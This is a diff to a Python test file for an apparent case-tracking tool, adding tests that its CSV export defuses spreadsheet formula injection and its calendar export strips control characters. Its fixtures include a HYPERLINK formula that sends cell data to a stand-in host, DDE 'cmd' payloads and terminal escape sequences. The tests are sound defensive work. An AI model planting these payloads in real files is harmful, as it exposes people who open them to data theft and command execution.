@@ -13,8 +13,9 @@ from icalendar import Calendar
 from casewriter.errors import UsageError
 from casewriter.paths import AppPaths
 from casewriter.store import CaseStore
-from casewriter.store.export import export_document, rows_from_document
+from casewriter.store.export import export_document
 from casewriter.store.formats import to_csv, to_ics
+from casewriter.store.importer import rows_from_document
 from tests.test_store import make_case
 from tests.test_store_search import cjk_index_is_exact
 
@@ -60,7 +61,13 @@ def test_round_trip_is_lossless(tmp_path: Path) -> None:
     doc = export_document(src)
     dst = CaseStore.open(AppPaths.under(tmp_path / "b"), clock=lambda: T0)
     report = dst.import_rows(rows_from_document(doc, "x.json"))
-    assert report == {"imported": 2, "skipped": [], "renumbered": {}, "links_dropped": 0}
+    assert report == {
+        "imported": 2,
+        "skipped": [],
+        "renumbered": {},
+        "links_dropped": 0,
+        "invalid_values_left_out": [],
+    }
     assert _strip(export_document(dst)) == _strip(doc)
     assert [h.case.id for h in dst.search("请提供发票")] == ["CW-000001"]
     assert [h.case.id for h in dst.search("丢失")] == ["CW-000002"]
@@ -168,7 +175,7 @@ def test_csv_and_ics(tmp_path: Path) -> None:
     store.file(c.id, "7261849305", now=T0)
     rows = list(store.export_rows())
     text = to_csv(rows)
-    assert text.startswith("\ufeffid,status,")
+    assert text.startswith('\ufeff"id","status",')  # every cell quoted (see formats.py)
     assert "仓库丢失 X004ABCDEF v2" in text and "fnsku:X004ABCDEF; reference_id:R1234567" in text
     cal = Calendar.from_ical(to_ics(rows, T0))
     comps = {str(x["uid"]): x for x in cal.walk() if x.name in ("VTODO", "VEVENT")}
@@ -178,4 +185,101 @@ def test_csv_and_ics(tmp_path: Path) -> None:
     # UIDs are stable: exporting again gives the same ones.
     again = Calendar.from_ical(to_ics(list(store.export_rows()), T0 + timedelta(days=1)))
     assert {str(x["uid"]) for x in again.walk() if x.name in ("VTODO", "VEVENT")} == set(comps)
+    store.close()
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\x00=1+1",
+    "x;=1+1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_cells_never_start_a_formula(text: str) -> None:
+    from casewriter.store.formats import csv_cell
+
+    cell = csv_cell(text)
+    if text.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")):
+        assert cell == "'" + text
+    else:
+        assert cell == text  # starts with a letter: already text
+
+
+@pytest.mark.parametrize(
+    "number", ["-24.99", "+5", "-0", "24.99", "2026-05-01", "2026-05-01T09:00:00Z"]
+)
+def test_plain_numbers_and_dates_stay_data(number: str) -> None:
+    from casewriter.store.formats import csv_cell
+
+    assert csv_cell(number) == number
+
+
+def test_csv_export_of_hostile_stored_text(tmp_path: Path) -> None:
+    import csv
+    import io
+    import sqlite3
+
+    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
+    for text in HOSTILE:
+        store.save_new(make_case(subject=text, identifiers=[]))
+    store.save_new(make_case(profile="=1+1", subject="profile attack", identifiers=[]))
+    conn = sqlite3.connect(store.path)  # a currency no writer accepts, put in by hand
+    conn.execute("UPDATE cases SET currency = '=1+1' WHERE id = 1")
+    conn.commit()
+    conn.close()
+    text = to_csv(list(store.export_rows()))
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert text.startswith('\ufeff"id",')  # every cell quoted: a ; cannot start a cell
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), row
+    subjects = [r[6] for r in rows[1:]]
+    assert subjects[: len(HOSTILE)] == [("'" + t if t[0] in "=+-@\t\r\x00" else t) for t in HOSTILE]
+    assert rows[1][12] == "'=1+1"  # the hand-made currency, neutralised too
+    # The JSON export stays lossless: the same text, byte for byte.
+    exported = [r["subject"] for r in store.export_rows()]
+    assert exported[: len(HOSTILE)] == HOSTILE
+    store.close()
+
+
+def test_ics_drops_control_characters(tmp_path: Path) -> None:
+    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
+    hostile = "Refund\x00 pending \x1b]52;c;ZXZpbA==\x07 \x1b[2J done\x7f\x9b tab\there"
+    case = store.save_new(
+        make_case(subject=hostile, identifiers=[], deadline_closes=date(2026, 5, 1))
+    )
+    store.file(store.save_new(make_case(subject=hostile, identifiers=[])).id, "7261849305", now=T0)
+    data = to_ics(list(store.export_rows()), T0)
+    for byte in (b"\x00", b"\x1b", b"\x07", b"\x7f", "\x9b".encode()):
+        assert byte not in data
+    cal = Calendar.from_ical(data)
+    summaries = [str(x["summary"]) for x in cal.walk() if x.name in ("VTODO", "VEVENT")]
+    assert (
+        f"Claim window closes: {case.id} Refund pending ]52;c;ZXZpbA== [2J done tab\there"
+        in summaries
+    )
+    store.close()
+
+
+def test_ics_skips_values_that_cannot_be_read(tmp_path: Path) -> None:
+    import sqlite3
+
+    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
+    a = store.save_new(make_case(identifiers=[], deadline_closes=date(2026, 5, 1)))
+    b = store.save_new(make_case(identifiers=[]))
+    store.file(b.id, "7261849305", now=T0)
+    conn = sqlite3.connect(store.path)
+    conn.execute("UPDATE cases SET deadline_closes = '9999-12-31' WHERE id = 1")
+    conn.execute("UPDATE cases SET follow_up_at = '9999-12-31T23:59:59Z' WHERE id = 2")
+    conn.commit()
+    conn.close()
+    cal = Calendar.from_ical(to_ics(list(store.export_rows()), T0))
+    assert [x for x in cal.walk() if x.name in ("VTODO", "VEVENT")] == []
+    assert a.id and b.id
     store.close()
